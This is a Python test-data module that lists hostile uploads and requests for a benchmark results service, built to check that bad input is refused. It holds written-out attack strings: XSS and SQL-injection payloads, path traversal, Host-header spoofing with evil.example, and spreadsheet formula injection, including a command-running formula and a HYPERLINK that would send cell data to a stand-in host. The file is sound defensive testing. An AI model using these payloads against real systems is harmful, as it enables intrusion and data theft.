"""Hostile input for the results service, as data: no process is started and nothing is sent
here. Every case has an id (its pytest id), so a failure is replayed with `-k ID`.

    Upload    one body POSTed with a valid token: refused (a 4xx problem naming the field
              by JSON pointer, nothing stored) or kept (201, then shown everywhere)
    Request   one request with a hostile target, query or header: answered below 500
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from functools import cache
from typing import Any

from tests.conftest import DATA

NUMBERS = "numbers"
UNICODE = "unicode and controls"
SIZES = "sizes and lengths"
SHAPES = "unknown keys, wrong types"
HEADERS = "HTTP headers"
CAMPAIGNS = "campaign names and labels"
# The service's default --max-upload-bytes
MAX_UPLOAD_BYTES = 4 * 1024 * 1024
_MARKER = '"__HOSTILE__"'
FORM = "application/x-www-form-urlencoded"


def _slug(text: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")


@dataclass(frozen=True)
class Upload:
    category: str
    name: str
    body: bytes
    refused: bool
    pointer: str | None = None  # a refusal's JSON pointer (this or a longer one)
    status: int = 422  # a refusal's status
    content_type: str = "application/json"
    dropped: tuple[str, ...] = ()  # a kept upload's unknown keys, as the answer names them

    @property
    def id(self) -> str:
        return f"{_slug(self.category)}-{self.name}"


@dataclass(frozen=True)
class Request:
    category: str
    name: str
    method: str
    target: str
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    statuses: frozenset[int] = frozenset({400})
    never_in_answer: str = ""  # text an answer must not hold (an attacker's host name)

    @property
    def id(self) -> str:
        return f"{_slug(self.category)}-{self.name}"


Case = Upload | Request


@cache
def base_text() -> str:
    """A recorded result of an SD card (quick profile) as JSON text."""
    return (DATA / "report" / "quick-a1-card.json").read_text()


def base_document() -> dict[str, Any]:
    document: dict[str, Any] = json.loads(base_text())
    return document


def with_value(path: tuple[str | int, ...], raw: str, index: int) -> bytes:
    """The recorded result with the JSON text `raw` at `path` (raw: so that 1e400 or a lone
    surrogate escape reach the service as written), made distinct by `index`."""
    document = distinct(index)
    where: Any = document
    for key in path[:-1]:
        where = where[key]
    where[path[-1]] = "__HOSTILE__"
    return json.dumps(document).replace(_MARKER, raw, 1).encode()


def distinct(index: int) -> dict[str, Any]:
    """Another result of the same card: its own start time, so its own content hash."""
    document = base_document()
    document["started_at"] = f"2026-02-03T04:05:06.{index:06d}+00:00"
    return document


HOSTNAME = ("host", "hostname")
MAKER = ("probe", "devices", 0, "card", "manufacturer")
PRODUCT = ("probe", "devices", 0, "card", "cid", "product_name")
BOARD = ("probe", "environment", "board")
PROFILE = ("settings", "profile")
ELAPSED = ("tests", 0, "elapsed_s")
CAPACITY = ("probe", "devices", 0, "capacity_bytes")


def _refused(category: str, name: str, path: tuple[str | int, ...], raw: str, n: int) -> Upload:
    return Upload(category, name, with_value(path, raw, n), True, _pointer(path))


def _kept(category: str, name: str, path: tuple[str | int, ...], raw: str, n: int) -> Upload:
    return Upload(category, name, with_value(path, raw, n), False)


def _pointer(path: tuple[str | int, ...]) -> str:
    return "".join(f"/{part}" for part in path)


def _kept_dropping(name: str, path: tuple[str | int, ...], raw: str, n: int) -> Upload:
    """A kept upload with a key no document has: dropped, and the answer names it."""
    return Upload(SHAPES, name, with_value(path, raw, n), False, dropped=(_pointer(path),))


def _invalid_json(category: str, name: str, body: bytes) -> Upload:
    return Upload(category, name, body, True, status=400)


def number_cases() -> list[Case]:
    big = "9" * 5000
    return [
        _refused(NUMBERS, "1e400", ELAPSED, "1e400", 1),
        _refused(NUMBERS, "minus-1e400", ELAPSED, "-1e400", 2),
        _refused(NUMBERS, "1e308", ELAPSED, "1E+308", 3),
        _refused(NUMBERS, "float-beyond-1e18", ("tests", 0, "write", "bw_bytes"), "1.5e19", 4),
        _refused(NUMBERS, "2-to-64", CAPACITY, str(2**64), 5),
        _refused(NUMBERS, "below-int64", CAPACITY, str(-(2**63) - 1), 6),
        _refused(NUMBERS, "int-beyond-1e18-as-float", ELAPSED, str(2**62), 7),
        _kept(NUMBERS, "int64-max", CAPACITY, str(2**63 - 1), 8),
        _kept(NUMBERS, "underflow-to-zero", ELAPSED, "1e-400", 9),
        _kept(NUMBERS, "minus-zero", ("tests", 0, "write", "lat_ns", "min"), "-0.0", 10),
        _invalid_json(NUMBERS, "5000-digits", with_value(ELAPSED, big, 11)),
        _invalid_json(NUMBERS, "nan", with_value(ELAPSED, "NaN", 12)),
        _invalid_json(NUMBERS, "infinity", with_value(ELAPSED, "Infinity", 13)),
        _invalid_json(NUMBERS, "minus-infinity", with_value(ELAPSED, "-Infinity", 14)),
        Request(NUMBERS, "query-limit-huge", "GET", "/api/v1/results?limit=" + big[:30]),
        Request(NUMBERS, "query-before-minus", "GET", "/api/v1/results?before=-1"),
        Request(NUMBERS, "query-capacity-1e400", "GET", "/api/v1/results?capacity=1e400"),
        Request(NUMBERS, "result-id-huge", "GET", "/api/v1/results/" + big[:40], statuses=_404),
        Request(NUMBERS, "device-result-nan", "GET", "/devices/x?result=nan", statuses=_404),
    ]


_404 = frozenset({404})
_405 = frozenset({405})


def unicode_cases() -> list[Case]:
    return [
        _refused(UNICODE, "lone-surrogate", HOSTNAME, '"vm\\ud800"', 20),
        _refused(UNICODE, "low-surrogate", MAKER, '"\\udc80Kingston"', 21),
        _refused(UNICODE, "nul", MAKER, '"Kings\\u0000ton"', 22),
        _refused(UNICODE, "escape", PRODUCT, '"SD64G\\u001b[2J"', 23),
        _refused(UNICODE, "c1-nel", BOARD, '"Pi\\u0085 5"', 24),
        _refused(UNICODE, "del", HOSTNAME, '"vm\\u007f"', 25),
        _refused(UNICODE, "newline-in-name", HOSTNAME, '"vm\\nx"', 26),
        _refused(UNICODE, "carriage-return", BOARD, '"Pi\\r5"', 27),
        _refused(UNICODE, "tab-in-name", MAKER, '"\\tKingston"', 28),
        _refused(UNICODE, "bidi-override", PRODUCT, '"\\u202eG46DS"', 29),
        _refused(UNICODE, "bidi-isolate", BOARD, '"\\u2066Pi"', 30),
        _refused(UNICODE, "nul-in-profile", PROFILE, '"quick\\u0000"', 31),
        Upload(UNICODE, "nul-in-a-key", with_value(("x",), '{"a\\u0000b": 1}', 32), True, "/x"),
        _kept(UNICODE, "emoji-and-cjk", MAKER, json.dumps("Kingston 数据 \U0001f600"), 33),
        _kept(UNICODE, "noncharacter", HOSTNAME, '"vm\\uffff"', 34),
        _kept(UNICODE, "tab-in-job-file", ("tests", 0, "job"), json.dumps("[x]\n\tbs=4k\n"), 35),
        _invalid_json(UNICODE, "invalid-utf8", with_value(HOSTNAME, '"vm', 36) + b"\xff"),
        _invalid_json(
            UNICODE,
            "bad-continuation-utf8",
            with_value(HOSTNAME, '"vm@@"', 71).replace(b"@@", b"\xc3("),
        ),
        _invalid_json(
            UNICODE,
            "overlong-utf8",
            with_value(HOSTNAME, '"vm\xc0\xaf"', 37).replace(b"\xc3\x80\xc2\xaf", b"\xc0\xaf"),
        ),
        _invalid_json(UNICODE, "utf8-bom", b"\xef\xbb\xbf" + with_value(HOSTNAME, '"vm"', 38)),
        _invalid_json(UNICODE, "utf16", with_value(HOSTNAME, '"vm"', 39).decode().encode("utf-16")),
        Request(UNICODE, "query-nul", "GET", "/api/v1/results?maker=%00"),
        Request(UNICODE, "query-escape", "GET", "/?board=%1b%5b2J"),
        Request(
            UNICODE,
            "query-bad-utf8",
            "GET",
            "/api/v1/results?name=%ff%fe",
            _json(),
            statuses=frozenset({200}),
        ),
        Request(UNICODE, "path-nul", "GET", "/devices/sd%00x", statuses=_404),
        Request(UNICODE, "path-surrogate", "GET", "/results/%ed%a0%80", statuses=_404),
    ]


def _json() -> tuple[tuple[str, str], ...]:
    return (("Accept", "application/json"),)


def size_cases() -> list[Case]:
    body = with_value(("x-padding",), json.dumps("x" * MAX_UPLOAD_BYTES), 40)
    tests = distinct(41)
    tests["tests"] = tests["tests"] * 50  # 300 tests: the report draws a section per test
    warnings = distinct(42)
    warnings["warnings"] = ["w"] * 257
    deep = '{"x":' * 40 + "1" + "}" * 40
    return [
        Upload(SIZES, "body-over-limit", body, True, status=413),
        _refused(SIZES, "text-4097", HOSTNAME, json.dumps("h" * 4097), 43),
        _refused(SIZES, "profile-201", PROFILE, json.dumps("p" * 201), 44),
        _refused(SIZES, "job-file-64k", ("tests", 0, "job"), json.dumps("j" * 65537), 45),
        Upload(SIZES, "300-tests", json.dumps(tests).encode(), True, "/tests"),
        Upload(SIZES, "257-warnings", json.dumps(warnings).encode(), True, "/warnings"),
        Upload(SIZES, "key-129", with_value(("k" * 129,), "1", 46), True, "/"),
        Upload(SIZES, "nested-40", with_value(("x",), deep, 47), True, "/x"),
        _invalid_json(SIZES, "nested-100000", b"[" * 100_000 + b"]" * 100_000),
        _kept(SIZES, "text-4096", HOSTNAME, json.dumps("h" * 4096), 48),
        _kept(SIZES, "maker-4096", MAKER, json.dumps("M" * 4096), 49),
    ]


def shape_cases() -> list[Case]:
    twice = json.dumps(distinct(50)).replace('"settings": {', '"settings": {"profile": "a1", ')
    missing = distinct(51)
    del missing["flashmark_version"]
    return [
        _kept_dropping("unknown-top-key", ("x-newer",), '{"a": [1]}', 52),
        _kept_dropping("unknown-nested-key", ("settings", "future"), "true", 53),
        _kept_dropping("unknown-key-in-a-test", ("tests", 1, "read", "new"), "1", 54),
        _refused(SHAPES, "text-for-number", ("settings", "runtime_s"), '"8"', 55),
        _refused(SHAPES, "word-for-number", ELAPSED, '"fast"', 68),
        _refused(SHAPES, "2-to-70-capacity", ("target", "capacity_bytes"), str(2**70), 69),
        _refused(SHAPES, "number-for-bool", ("settings", "direct"), "1", 56),
        _refused(SHAPES, "list-for-text", HOSTNAME, '["a"]', 57),
        _refused(SHAPES, "object-for-list", ("tests",), '{"not": "a list"}', 58),
        _refused(SHAPES, "list-for-object", ("tests", 0, "read"), "[]", 59),
        _refused(SHAPES, "bool-for-number", ELAPSED, "true", 60),
        _refused(SHAPES, "fraction-for-int", CAPACITY, "1.5", 61),
        _refused(SHAPES, "unknown-enum", ("tests", 0, "pattern"), '"zzz"', 62),
        _refused(SHAPES, "list-for-grades", ("grades",), "[]", 63),
        Upload(SHAPES, "null-target", with_value(("target",), "null", 64), True, ""),
        Upload(SHAPES, "missing-key", json.dumps(missing).encode(), True, "/flashmark_version"),
        Upload(SHAPES, "key-twice", twice.encode(), True, "/settings/profile"),
        _refused(SHAPES, "schema-as-list", ("schema",), '["flashmark.result/1"]', 65),
        _refused(SHAPES, "newer-schema", ("schema",), '"flashmark.result/2"', 66),
        _refused(SHAPES, "monitor-schema", ("schema",), '"flashmark.monitor/1"', 67),
        Upload(SHAPES, "array-body", b"[]", True, ""),
        Upload(SHAPES, "text-body", b'"text"', True, ""),
        Upload(SHAPES, "empty-object", b"{}", True, "/schema"),
        Upload(SHAPES, "form-body", b"a=1", True, status=415, content_type=FORM),
        Upload(SHAPES, "empty-body", b"", True, status=400),
        _invalid_json(SHAPES, "cut-short", b"{"),
    ]


def _evil_host(name: str, target: str, *headers: tuple[str, str]) -> Request:
    """A request naming an attacker's host: refused, the host named nowhere in the answer."""
    return Request(HEADERS, name, "GET", target, headers, never_in_answer="//evil")


def header_cases() -> list[Case]:
    evil = ("Host", "evil.example")
    return [
        _evil_host("host-evil-api", "/api/v1", evil),
        _evil_host("host-evil-list", "/api/v1/results", evil),
        _evil_host("host-evil-page", "/", evil, ("Accept", "text/html")),
        _evil_host("host-evil-csv", "/api/v1/export.csv", evil),
        _evil_host("host-userinfo", "/api/v1", ("Host", "127.0.0.1@evil.example")),
        _evil_host("host-with-path", "/api/v1", ("Host", "evil.example/x")),
        Request(
            HEADERS,
            "forwarded-host",
            "GET",
            "/api/v1",
            (("X-Forwarded-Host", "evil.example"), ("Forwarded", "host=evil.example")),
            statuses=frozenset({200}),
            never_in_answer="evil",
        ),
    ]


# What a spreadsheet reads as the start of a formula (OWASP, CSV Injection, with the full-width
# forms), and where it may start a cell inside a text: the separators it offers, line ends,
# the double quote.
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CSV_BOUNDARIES = (",", ";", "\t", "|", "\r", "\n", '"')
CSV_TEXTS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    " =1+1",
    "a;=1+1",
    "a,=1+1",
    'a"=1+1',
    "a|=1+1",
    "a; -2+3",
    "\uff1d1+1",
    '=HYPERLINK("http://x.invalid/?"&A1,"x")',
)


def in_campaign(index: int, campaign: Any = "hostile", label: Any = "board-1") -> dict[str, Any]:
    """A result uploaded into a campaign (flashmark upload --campaign --label)."""
    return {**distinct(index), "campaign": campaign, "board_label": label}


def _campaign_refused(name: str, field: str, value: Any, index: int) -> Upload:
    document = in_campaign(index)
    if value is _ABSENT:
        del document[field]
    else:
        document[field] = value
    # A missing one is named as the field that is wrong, like a bad one.
    return Upload(CAMPAIGNS, name, json.dumps(document).encode(), True, f"/{field}")


def _campaign_kept(name: str, campaign: str, label: str, index: int) -> Upload:
    return Upload(CAMPAIGNS, name, json.dumps(in_campaign(index, campaign, label)).encode(), False)


_ABSENT = object()


def campaign_cases() -> list[Case]:
    """Campaign names (part of addresses) and board labels (in every row of a campaign page and
    its CSV), each checked apart from the document: refused naming the field, or kept and
    shown on every page of its campaign."""
    refused = [
        ("campaign-nul", "campaign", "lab\u0000"),
        ("campaign-escape", "campaign", "lab\u001b[2J"),
        ("campaign-bidi-override", "campaign", "lab\u202e1"),
        ("campaign-newline", "campaign", "lab\n1"),
        ("campaign-traversal", "campaign", "../etc"),
        ("campaign-slash", "campaign", "a/b"),
        ("campaign-dot-dot", "campaign", ".."),
        ("campaign-65", "campaign", "c" * 65),
        ("campaign-empty", "campaign", ""),
        ("campaign-blank", "campaign", " lab"),
        ("campaign-space", "campaign", "lab 1"),
        ("campaign-html", "campaign", "<script>alert(1)</script>"),
        ("campaign-sql", "campaign", "x';DROP TABLE results;--"),
        ("campaign-percent", "campaign", "lab%2F1"),
        ("campaign-number", "campaign", 7),
        ("campaign-list", "campaign", ["lab"]),
        ("campaign-object", "campaign", {"name": "lab"}),
        ("campaign-true", "campaign", True),
        ("label-nul", "board_label", "board\u0000"),
        ("label-escape", "board_label", "board\u001b]0;x\u0007"),
        ("label-c1", "board_label", "board\u0085"),
        ("label-bidi-isolate", "board_label", "\u2066board"),
        ("label-zero-width-joiner", "board_label", "bo\u200dard"),
        ("label-combining-mark", "board_label", "e\u0301"),
        ("label-65", "board_label", "b" * 65),
        ("label-empty", "board_label", ""),
        ("label-html", "board_label", "<img src=x onerror=alert(1)>"),
        ("label-script", "board_label", "<script>"),
        ("label-formula", "board_label", "=1+1"),
        ("label-formula-at", "board_label", "@SUM(A1)"),
        ("label-formula-minus", "board_label", "-2+3"),
        ("label-formula-full-width", "board_label", "\uff1d1+1"),
        ("label-ipv4", "board_label", "192.168.1.7"),
        ("label-ipv6", "board_label", "fe80::1"),
        ("label-mac", "board_label", "b8:27:eb:12:34:56"),
        ("label-email", "board_label", "pi@lab.example"),
        ("label-at", "board_label", "pi@lab"),
        ("label-path", "board_label", "/home/pi"),
        ("label-serial", "board_label", "board-deadbeef01"),
        ("label-number", "board_label", 7),
        ("label-list", "board_label", ["board-1"]),
        ("campaign-without-label", "board_label", _ABSENT),
        ("label-without-campaign", "campaign", _ABSENT),
    ]
    return [
        *(
            _campaign_refused(name, field, value, 3000 + index)
            for index, (name, field, value) in enumerate(refused)
        ),
        _campaign_kept("label-cjk", "hostile-kept", "ボード-07", 3100),
        _campaign_kept("label-64", "hostile-kept", "w" * 64, 3101),
        _campaign_kept("campaign-64", "c" * 64, "board-1", 3102),
        _campaign_kept("label-all-signs", "hostile-kept", "board_07.a:1+2-3", 3103),
        *(
            Request(CAMPAIGNS, name, "GET", target, statuses=_404)
            for name, target in (
                ("page-nul", "/campaigns/%00"),
                ("page-traversal", "/campaigns/..%2F..%2Fetc"),
                ("api-escape", "/api/v1/campaigns/%1b%5b2J"),
                ("api-65", "/api/v1/campaigns/" + "x" * 65),
                ("page-html", "/campaigns/%3Cscript%3E"),
                ("api-sql", "/api/v1/campaigns/x'%20OR%20'1'='1"),
                ("api-surrogate", "/api/v1/campaigns/%ed%a0%80"),
                ("csv-unknown", "/api/v1/campaigns/none/export.csv"),
            )
        ),
        Request(CAMPAIGNS, "post-to-campaign", "POST", "/api/v1/campaigns/x", statuses=_405),
    ]


def uploads() -> list[Upload]:
    """Every upload case."""
    return [case for case in _all() if isinstance(case, Upload)]


def requests() -> list[Request]:
    """Every request case."""
    return [case for case in _all() if isinstance(case, Request)]


def _all() -> list[Case]:
    return [
        *number_cases(),
        *unicode_cases(),
        *size_cases(),
        *shape_cases(),
        *header_cases(),
        *campaign_cases(),
    ]
